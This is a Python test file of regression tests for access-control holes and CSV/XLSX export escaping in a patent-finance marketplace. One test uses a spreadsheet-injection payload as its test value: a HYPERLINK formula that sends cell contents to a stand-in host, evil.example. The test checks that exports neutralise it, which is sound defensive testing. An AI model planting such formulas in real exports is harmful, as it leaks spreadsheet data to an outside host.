"""Regression tests for the holes found in the access review, one per hole."""

from __future__ import annotations

from marketplace.extensions import db

from .finance_helpers import submit


def test_valuation_of_an_unlisted_patent_is_a_404_for_strangers(client, app, make, as_user):
    with app.test_request_context():
        holder = make.user(kind="university")
        patent = make.patent(holder.organization, title="未公开的秘密专利")
        bank = make.user(kind="bank")
        stranger = make.user(kind="enterprise")
        submit(holder, [bank], [make.patent(holder.organization)])
        db.session.commit()
    url = f"/patents/{patent.id}/valuation"
    as_user(stranger)
    response = client.get(url)
    assert response.status_code == 404 and "未公开的秘密专利" not in response.get_data(as_text=True)
    as_user(bank)  # a bank reviewing another of the holder's patents does not see this one
    assert client.get(url).status_code == 404
    as_user(holder)
    assert client.get(url).status_code == 200


def test_a_pledge_listing_behind_a_request_is_seen_only_by_the_chosen_banks(client, app, make, as_user):
    from marketplace.listings.models import ListingKind

    with app.test_request_context():
        holder = make.user(kind="enterprise")
        chosen, other_bank = make.user(kind="bank"), make.user(kind="bank")
        patent = make.patent(holder.organization, title="质押专利甲")
        request = submit(holder, [chosen], [patent])
        open_need = make.listing(holder, kind=ListingKind.pledge, title="公开融资需求乙")
        db.session.commit()
    listing_id = request.listing_id
    as_user(other_bank)
    assert client.get(f"/listings/{listing_id}").status_code == 404
    assert client.get(f"/patents/{patent.id}").status_code == 404
    browse = client.get("/listings?kind=pledge").get_data(as_text=True)
    assert "质押专利甲" not in browse and "公开融资需求乙" in browse
    assert client.get(f"/listings/{open_need.id}").status_code == 200
    as_user(chosen)
    assert client.get(f"/listings/{listing_id}").status_code == 200
    assert "质押专利甲" in client.get("/listings?kind=pledge").get_data(as_text=True)


def test_only_patent_holders_may_import(client, app, make, as_user):
    import io

    from marketplace.patents.import_jobs import ImportJob

    with app.test_request_context():
        bank = make.user(kind="bank")
    as_user(bank)
    assert client.get("/patents/import").status_code == 403
    rows = "申请号,名称\n201710601862.3,一种方法\n".encode()
    response = client.post("/patents/import", data={"file": (io.BytesIO(rows), "p.csv"), "publish": "open_licence"},
                           content_type="multipart/form-data")
    assert response.status_code == 403
    assert db.session.scalar(db.select(db.func.count(ImportJob.id))) == 0


def test_exports_defuse_names_a_spreadsheet_would_run_as_formulas(client, app, make, as_user, operator):
    import csv
    import io
    from datetime import date

    from openpyxl import load_workbook

    from marketplace.accounts.models import OrgKind

    from .indicators.conftest import conclude

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    with app.test_request_context():
        holder = make.org(OrgKind.university, name=evil)
        firm = make.org(OrgKind.enterprise, name="@SUM(1+1)")
        conclude("transfer", date(2025, 3, 1), "100000", holder=holder, counterparty=firm, beneficiary=firm)
        db.session.commit()
    as_user(operator)
    ledger = client.get("/operator/ledger.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(ledger)) for cell in row]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells and evil not in cells
    report = client.get("/operator/indicators/report.csv?year=2025&sheet=entries").data.decode("utf-8-sig")
    assert "'" + evil in [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    book = load_workbook(io.BytesIO(client.get("/operator/indicators/report.xlsx?year=2025").data))
    values = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "'" + evil in values and evil not in values
